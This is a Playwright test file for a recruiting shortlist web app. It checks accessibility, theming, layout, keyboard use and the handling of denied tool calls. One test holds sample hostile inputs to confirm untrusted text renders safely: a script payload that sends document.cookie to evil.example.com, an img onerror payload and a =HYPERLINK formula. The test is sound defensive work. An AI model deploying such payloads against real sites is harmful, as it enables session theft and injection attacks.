import json
import re
from statistics import median

import pytest
from playwright.sync_api import Page, expect

from fj_mcp.sandbox.app import Sandbox
from fj_mcp.sandbox.population.odd_people import HOSTILE_SKILL
from tests.support.shortlist_page import (
    CSHARP,
    MIDDLE,
    NARROW,
    PEOPLE,
    WIDE,
    Serve,
    Served,
    opened,
)

pytestmark = [pytest.mark.xdist_group("view-surroundings"), pytest.mark.unmeasured]

PUNE = CSHARP | {"regions": ["Pune, Maharashtra, India"]}
BACKGROUND = "getComputedStyle(document.documentElement).backgroundColor"


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [NARROW, MIDDLE, WIDE])
def test_axe_finds_nothing(page: Page, at: Served, theme: str, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 900})
    view = opened(page, at, filters=PUNE, theme=theme).settled()
    view.rows.first.locator(".opener").click()
    if width < WIDE:
        view.frame.get_by_text("Filters", exact=True).click()
    view.frame.locator("#skills .chip").last.click()
    view.select(0)
    expect(view.frame.get_by_role("heading", name="Experience")).to_be_visible()
    assert view.findings() == []
    view.paid("Reveal email").first.click()
    expect(view.dialog).to_be_visible()
    assert view.findings() == []


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [NARROW, MIDDLE, WIDE])
def test_axe_finds_nothing_in_decisions_notes_and_comparisons(
    page: Page, at: Served, theme: str, width: int
) -> None:
    page.set_viewport_size({"width": width, "height": 900})
    seen = {"session_id": "6a0c77936e7a0151430c91fd", "when": "2020-11-03T12:00:00Z"}
    view = opened(page, at, theme=theme, patches=[{"seen_before": seen}]).settled()
    for place, label in enumerate(("Shortlist", "Maybe", "Reject", "Contacted")):
        view.rows.nth(place).get_by_role("button", name=f"{label}:").click()
    expect(view.frame.locator("#saving")).to_be_hidden()
    page.evaluate("window.desk.deny.add('review_candidates')")
    view.rows.nth(4).get_by_role("button", name="Note:").click()
    page.keyboard.type("Not saved")
    page.keyboard.press("Enter")
    expect(view.unsaved).to_be_visible()
    view.rows.nth(4).get_by_role("button", name="Note:").click()
    view.select(0, 1, 2, 3)
    assert view.findings() == []
    view.button("Compare").click()
    expect(view.dialog).not_to_contain_text("Loading")
    assert view.findings() == []
    assert view.inside("document.documentElement.scrollWidth") == width
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    view.button("Keys").click()
    assert view.findings() == []


def test_the_host_s_theme_and_colors_are_applied_and_followed(page: Page, at: Served) -> None:
    view = opened(page, at, theme="dark").settled()
    assert view.inside(BACKGROUND) == "rgb(23, 25, 28)"
    page.evaluate("window.desk.wear('light')")
    expect(view.frame.locator("html")).to_have_attribute("data-theme", "light")
    assert view.inside(BACKGROUND) == "rgb(255, 255, 255)"
    view = opened(page, at, variables={"--color-background-primary": "rgb(1, 2, 3)"}).settled()
    assert view.inside(BACKGROUND) == "rgb(1, 2, 3)"


@pytest.mark.parametrize("width", [NARROW, MIDDLE, WIDE])
def test_nothing_is_cut_off_sideways(page: Page, at: Served, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 900})
    view = opened(page, at, filters={"skills": {"mandatory": [HOSTILE_SKILL]}}).settled()
    view.rows.first.locator(".opener").click()
    expect(view.frame.get_by_role("heading", name="Experience")).to_be_visible()
    assert view.inside("document.documentElement.scrollWidth") == width
    assert view.inside("document.documentElement.clientWidth") == width
    row = view.rows.first
    if width == NARROW:
        lower = [
            row.locator(f".{kind}").bounding_box() for kind in ("name", "title", "company", "why")
        ]
        tops = [box["y"] for box in lower if box]
        assert len(tops) == 4
        assert tops == sorted(set(tops))


def test_the_host_gets_the_height_of_the_page(page: Page, at: Served) -> None:
    view = opened(page, at, filters=PUNE).settled()
    height = "document.documentElement.getBoundingClientRect().height"
    page.wait_for_function(
        "height => Math.abs(window.desk.recorded.heights.at(-1) - height) < 2",
        arg=view.inside(height),
    )
    assert view.inside("document.documentElement.scrollHeight <= innerHeight")


def test_the_keyboard_alone_is_enough(page: Page, at: Served) -> None:
    view = opened(page, at, filters=PUNE).settled()
    search = view.frame.get_by_role("searchbox")
    search.focus()

    def tab_to(name: str) -> None:
        for _ in range(60):
            page.keyboard.press("Tab")
            focused = view.inside(
                "(document.activeElement.ariaLabel || document.activeElement.textContent).trim()"
            )
            if focused.startswith(name):
                outline = "getComputedStyle(document.activeElement).outlineStyle"
                assert view.inside(outline) == "solid"
                return
        raise AssertionError(f"{name} cannot be reached")

    tab_to("Name")
    page.keyboard.press("Enter")
    expect(view.frame.get_by_role("columnheader", name="Name")).to_have_attribute(
        "aria-sort", "ascending"
    )
    first = view.names()[0]
    tab_to(f"Select {first}")
    page.keyboard.press("Space")
    tab_to(first)
    page.keyboard.press("Enter")
    expect(view.frame.get_by_role("heading", name="Experience")).to_be_visible()
    search.focus()
    tab_to("Reveal email")
    page.keyboard.press("Enter")
    expect(view.dialog).to_be_visible()
    inside = (
        "document.activeElement === document.body || !!document.activeElement.closest('dialog')"
    )
    for _ in range(5):
        page.keyboard.press("Tab")
        assert view.inside(inside)
    # After the last button the focus goes to the host's page, then to the first button again.
    tab_to("Cancel")
    page.keyboard.press("Escape")
    expect(view.dialog).to_be_hidden()
    expect(view.paid("Reveal email").first).to_be_focused()
    assert view.calls("reveal_contacts") == []


def test_a_call_that_the_user_does_not_allow_is_reported_and_can_be_repeated(
    page: Page, at: Served
) -> None:
    view = opened(page, at, deny=["export_profiles", "get_candidate", "list_profiles"])
    expect(view.problem).to_contain_text("The app did not do that.")
    expect(view.rows).to_have_count(20)
    page.evaluate("window.desk.deny.delete('list_profiles')")
    view.button("Try again").click()
    view.expect_people(PEOPLE)
    view.button("Export all").click()
    expect(view.problem).to_contain_text("The app did not do that.")
    expect(view.button("Export all")).to_be_enabled()
    view.rows.first.locator(".opener").click()
    panel = view.frame.locator(".opened")
    expect(panel).to_contain_text("The app did not do that.")
    page.evaluate("window.desk.deny.delete('get_candidate')")
    panel.get_by_role("button", name="Try again").click()
    expect(view.frame.get_by_role("heading", name="Experience")).to_be_visible()


def test_a_host_without_capabilities_still_shows_the_first_candidates(
    page: Page, at: Served
) -> None:
    view = opened(page, at, without=["serverTools", "openLinks", "message"]).settled()
    expect(view.rows).to_have_count(20)
    expect(view.problem).to_contain_text("This app does not let the shortlist do that.")
    view.rows.first.get_by_role("button", name="Shortlist:").click()
    expect(view.unsaved).to_contain_text("This app does not let the shortlist do that.")
    view.button("LinkedIn profile", exact=False).first.click()
    expect(view.problem).to_contain_text("does not open links. The address is https://")
    view.select(0)
    view.button("Ask the assistant").click()
    view.dialog.get_by_role("button", name="Ask").click()
    expect(view.problem).to_contain_text("does not pass questions on")


def test_untrusted_text_is_only_ever_text(page: Page, at: Served) -> None:
    view = opened(page, at, filters={"skills": {"mandatory": [HOSTILE_SKILL]}}).settled()
    before = view.inside("document.querySelectorAll('script, img, iframe, a').length")
    shown = view.inside("document.body.textContent")
    for text in ("<script>fetch('https://evil", "<img src=x onerror=alert(1)>", "=HYPERLINK("):
        assert text in shown
    count = view.rows.count()
    for place in range(count):
        view.rows.nth(place).locator(".opener").click()
    expect(view.frame.get_by_role("heading", name="Experience")).to_have_count(count)
    view.frame.get_by_role("checkbox", name=re.compile(r"^Select all \d")).check()
    view.button("Ask the assistant").click()
    expect(view.dialog).to_contain_text('=HYPERLINK("https://evil.example.com/')
    view.dialog.get_by_role("button", name="Ask").click()
    expect(view.dialog).to_be_hidden()
    assert view.inside("document.querySelectorAll('script, img, iframe, a').length") == before == 1
    assert view.inside("document.querySelectorAll('[href], [src], [onerror]').length") == 0
    # Their names are quoted there, one per line.
    (message,) = view.recorded("messages")
    lines = message.split("\n")[3:]
    assert len(lines) == count
    names = [json.loads(line.split(": ", 1)[1]) for line in lines]
    assert (
        "<script>fetch('https://evil.example.com/?c='+document.cookie)</script><b>Bold</b>"[:80]
        in names
    )


def test_of_three_hundred_candidates_25_are_drawn_and_the_time_is_printed(
    page: Page, serve: Serve, capsys: pytest.CaptureFixture[str]
) -> None:
    at = serve(Sandbox(match_seconds=0, first_batch=300))
    took = []
    for _ in range(3):
        view = opened(page, at, filters={"skills": {"mandatory": ["Python"]}}, whole=True)
        view.expect_people(300)
        expect(view.rows).to_have_count(25)
        view.inside("new Promise(done => requestAnimationFrame(() => setTimeout(done, 50)))")
        (shown,) = view.inside("performance.getEntriesByName('fj-shown').map(one => one.duration)")
        took.append(shown)
    with capsys.disabled():
        print(f"\n300 candidates on screen in {median(took):.0f} ms (median of 3)")  # noqa: T201
